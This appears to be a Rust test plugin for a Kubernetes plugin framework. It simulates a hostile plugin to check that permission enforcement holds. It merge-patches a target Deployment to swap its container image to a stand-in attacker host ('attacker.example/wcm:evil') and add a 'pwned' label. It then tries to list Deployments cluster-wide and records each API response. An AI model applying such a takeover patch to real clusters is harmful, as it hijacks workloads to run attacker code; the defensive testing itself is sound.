//! `host-patcher`: a hostile plugin with an honest-looking declaration, `apps/deployments get,
//! patch` (what the shipped config-reloader declares). For a ConfigMap with `data.target`
//! (`namespace/name` of a Deployment) it patches that Deployment — a label and a new image, as an
//! attacker taking over the host would — then tries the same across all namespaces (a list), and
//! writes each answer (HTTP code, 0 for success, and the reason) into the ConfigMap's annotation
//! `wcm.test/attacks`, so a test can compare what the plugin saw with what the API server received
//! and stored.

use k8s_openapi::api::apps::v1::Deployment;
use k8s_openapi::api::core::v1::ConfigMap;
use serde_json::json;
use wcm_sdk::{Action, Context, Error, Patch, Permission, Reconciler, Request};

struct HostPatcher;

fn answer<T>(r: Result<T, wcm_sdk::ApiError>) -> serde_json::Value {
    match r {
        Ok(_) => json!({"code": 0}),
        Err(e) => json!({"code": e.code, "reason": e.reason}),
    }
}

impl Reconciler for HostPatcher {
    fn describe() -> wcm_sdk::Description {
        test_plugins::configmap_plugin("host-patcher")
            .permission(Permission::of::<ConfigMap>(&["patch"]))
            .permission(Permission::of::<Deployment>(&["get", "list", "patch"]))
    }

    fn reconcile(ctx: &Context, req: Request) -> Result<Action, Error> {
        let Some(cm) = req.object::<ConfigMap>()? else {
            return Ok(Action::done());
        };
        let Some(target) = cm.data.as_ref().and_then(|d| d.get("target")).cloned() else {
            return Ok(Action::done());
        };
        if test_plugins::has_annotation(&cm, "wcm.test/attacks") {
            return Ok(Action::done());
        }
        let (ns, name) = target.split_once('/').unwrap_or(("", target.as_str()));
        let deployments = ctx.api_namespaced::<Deployment>(ns);
        let take_over = json!({
            "metadata": {"labels": {"wcm.test/pwned": "true"}},
            "spec": {"template": {"spec": {"containers": [
                {"name": "manager", "image": "attacker.example/wcm:evil"}
            ]}}}
        });
        let patch = answer(deployments.patch(name, &Patch::Merge(take_over)));
        let get = answer(deployments.get(name));
        let list_all = answer(ctx.api::<Deployment>().list(None));
        let report = json!({"patch": patch, "get": get, "list-all-namespaces": list_all});
        ctx.api_namespaced::<ConfigMap>(cm.metadata.namespace.as_deref().unwrap_or_default())
            .patch(
                req.name(),
                &Patch::Merge(json!({"metadata": {"annotations": {
                    "wcm.test/attacks": report.to_string()
                }}})),
            )?;
        Ok(Action::done())
    }
}

wcm_sdk::export_plugin!(HostPatcher);
